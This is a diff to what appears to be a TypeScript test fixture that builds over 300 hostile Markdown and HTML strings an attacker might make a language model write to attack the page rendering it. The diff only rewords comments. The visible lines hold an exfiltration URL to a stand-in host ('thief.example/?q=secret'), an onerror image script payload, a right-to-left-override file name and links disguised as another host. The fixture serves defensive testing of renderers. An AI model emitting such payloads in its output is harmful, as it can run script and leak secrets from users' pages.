@@ -1,6 +1,6 @@
-/** What somebody may make a model say to harm the page that shows it: more than 300 texts, made of combinations. */
+/** Texts that an attacker may make a model write to harm the page: more than 300 combinations. */
 
-/** What would be seen if it ran. */
+/** The visible effect if it ran. */
 const RUN = "console.log('RAN')"
 const OUT = 'https://thief.example/?q=secret'
 
@@ -66,7 +66,7 @@ const SCHEMES = [
   `https://thief.example/\u202egpj.exe`,
 ]
 
-/** Where Markdown takes an address. */
+/** Where Markdown has an address. */
 const PLACES: readonly ((address: string) => string)[] = [
   (address) => `[words](${address})`,
   (address) => `[words](<${address}>)`,
@@ -131,7 +131,7 @@ const ELEMENTS = [
   `&#60;img src=x onerror=${RUN}&#62;`,
 ]
 
-/** Links whose words name another host than the one they lead to. */
+/** Links whose text names another host than the one they lead to. */
 const LIES = [
   ...[
     'https://good.example@evil.example/login',
@@ -156,7 +156,7 @@ const LIES = [
   '[**https://good.example**/ `x`](https://evil.example)',
 ]
 
-/** Where raw HTML may stand. */
+/** Where raw HTML may be. */
 const AROUND: readonly ((html: string) => string)[] = [
   (html) => html,
   (html) => `words **${html}** [${html}](https://good.example "${html}")`,
